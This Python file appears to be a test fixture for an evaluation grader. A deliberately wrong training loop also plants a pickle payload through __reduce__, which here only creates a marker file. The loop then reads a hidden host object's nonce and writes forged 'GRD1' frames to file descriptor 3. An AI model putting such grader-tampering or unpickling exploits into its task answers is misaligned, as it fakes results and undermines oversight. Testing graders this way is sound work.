# Answers with objects and bytes that would run code in a grader that unpickles.

import os
import pickle
import struct


class Evil:
    def __reduce__(self):
        return open, ("/tmp/grade-attack-ran", "w")


BODY = pickle.dumps(Evil())


def train_epoch(model, optimizer, loss_fn, batches, accumulation_steps):
    """The wrong loop of wrong.py: sums instead of means, no tail, nothing ever cleared."""
    for number, (x, y) in enumerate(batches, 1):
        loss_fn(model(x), y).backward()
        if number % accumulation_steps == 0:
            optimizer.step()
    import gc

    for host in [o for o in gc.get_objects() if type(o).__name__ == "Host"]:
        for body in (BODY, struct.pack("<I", len(BODY)) + BODY, b"\x00\x00\x00\x00" + BODY):
            os.write(3, struct.pack("<4sB8sQ", b"GRD1", 4, host._nonce, len(body)) + body)
    return Evil()
